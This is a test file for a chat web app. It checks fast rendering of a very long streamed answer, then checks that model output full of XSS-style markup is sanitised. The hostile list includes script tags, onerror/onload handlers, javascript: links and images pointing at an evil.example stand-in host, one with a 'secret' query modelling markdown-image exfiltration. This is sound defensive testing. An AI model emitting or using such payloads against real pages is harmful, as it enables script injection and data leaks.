import { expect, test } from 'bun:test'
import { figures, openChat, say, scripted } from '../testing/chat.ts'
import { addFakeModel } from '../testing/fake-models.ts'
import { codeBlock, prose } from '../testing/long-answer.ts'
import { openSite } from '../testing/site.ts'
import { taskTimes } from '../testing/task-times.ts'

const site = openSite()
addFakeModel(site.inferd, 'fake')

test('A 32,000-token answer (prose, then one code block of 100 kB) streams without a frame over 100 ms, and scrolling up is not torn down by new text.', async () => {
  await site.visit({ account: await site.account({ balanceUsd: '5' }) }, async ({ page }) => {
    await openChat(page, 'test/fake')
    const taskMs = await taskTimes(page, async () => {
      // The answer pauses after the prose, so that there is time to scroll.
      await say(page, scripted([prose, { text: 'A pause. ' }, { delayMs: 10_000 }, { text: '\n\n' }, ...codeBlock]))
      await page.locator('.answer-text').getByText('A pause.').waitFor({ timeout: 30_000 })
      await page.mouse.move(600, 400)
      await page.mouse.wheel(0, -4_000)
      await page.waitForFunction(() => document.documentElement.scrollHeight - innerHeight - scrollY > 2_000)
      // The text in view must not move. scrollY may change, since the browser corrects it when it learns the real
      // heights of text above.
      const inView = await page.waitForFunction(() =>
        // Only one of two points so close together can be in the gap between paragraphs.
        [400, 420].map((y) => document.elementFromPoint(600, y)?.closest('.answer-text p')).find(Boolean),
      )
      const topOfText = () => inView.evaluate((paragraph) => paragraph?.getBoundingClientRect().top)
      // Content that the wheel brings into view is laid out within two frames.
      await page.evaluate(() => new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done))))
      const top = await topOfText()
      expect(await page.locator('.code-block').count()).toBe(0)
      await page.locator('.code-block').waitFor()
      await page.waitForFunction(() => (document.querySelector('.code-block')?.textContent?.length ?? 0) > 50_000)
      expect(await topOfText()).toBe(top)
      await page.getByText('Answer complete').waitFor({ timeout: 45_000 })
    })
    expect(await page.locator('.code-block code').textContent()).toHaveLength(102_000 - 1)
    expect((await figures(page)).out).toMatch(/^3[12],\d{3}$/)
    // A page that rebuilds the answer has hundreds of long frames. A busy machine only lengthens the last one.
    expect(taskMs.filter((ms) => ms > 100).length).toBeLessThan(4)
  })
}, 120_000)

const hostile = [
  '<script>globalThis.broken = 1</script>',
  '<img src=x onerror="globalThis.broken = 2"> <svg onload="globalThis.broken = 3"><style>body { display: none }</style></svg>',
  '[a](javascript:globalThis.broken=4) [b](data:text/html,<script>1</script>) [c](JAVASCRIPT:alert`1`) <javascript:alert(1)>',
  '![secret](http://evil.example/?q=secret) ![s][p]',
  '[p]: http://evil.example/p.png',
  '<iframe src="http://evil.example"></iframe><link rel=stylesheet href=http://evil.example/s.css>',
  '<details open ontoggle="globalThis.broken = 5">x</details><form action=http://evil.example><button>x</button></form>',
  '\u202eright to left\u202c \u05d0\u05d1\u05d2 \u200b\u200b\u200bzero\u200dwidth\ufeff \u0000\u0007',
  `${'\u0301'.repeat(400)} a${'\u0489'.repeat(400)}`,
  '| a | b |\n|---|---|\n| ![x](http://evil.example/t.png) | <img src=http://evil.example/u.png> |',
  '```html\n<script>globalThis.broken = 6</script>\n```',
  '> quoted <object data=http://evil.example></object>',
  `${'>'.repeat(3_000)} deep`,
]

test('Model output with script, img onerror, svg, style, javascript: and data: links, a 5 MB line, RTL and zero-width characters runs nothing, loads nothing and breaks no layout (0 violations, 0 foreign requests).', async () => {
  const account = await site.account({ balanceUsd: '5' })
  await site.visit({ account, size: 'narrow' }, async ({ page }) => {
    const dialogs: string[] = []
    page.on('dialog', (dialog) => dialogs.push(dialog.message()))
    await openChat(page, 'test/fake')
    await say(page, scripted([...hostile.map((text) => ({ text: `${text}\n\n` })), { text: 'The end.' }]))
    const text = page.locator('.answer-text')
    await text.getByText('The end.').waitFor()
    await figures(page)
    expect(await text.textContent()).toContain('<script>globalThis.broken = 1</script>')
    const found = await text.evaluate((element) => ({
      elements: [...new Set([...element.querySelectorAll('*')].map(({ tagName }) => tagName))].sort(),
      links: [...element.querySelectorAll('a')].map(({ protocol }) => protocol),
    }))
    expect(found.elements.filter((name) => /SCRIPT|IMG|STYLE|IFRAME|LINK|FORM|OBJECT/.test(name))).toEqual([])
    expect(['A', 'BLOCKQUOTE', 'PRE', 'TABLE'].filter((name) => !found.elements.includes(name))).toEqual([])
    expect(found.links.filter((protocol) => !/^https?:$/.test(protocol))).toEqual([])

    await say(page, scripted([{ repeat: 5_000, script: [{ text: 'x'.repeat(1_000) }] }]))
    await page.getByText('more characters are not shown').waitFor({ timeout: 45_000 })
    await page.getByText('Answer complete').waitFor({ timeout: 45_000 })
    expect(await page.evaluate(() => Reflect.get(globalThis, 'broken'))).toBeUndefined()
    expect(dialogs).toEqual([])
  })
}, 120_000)
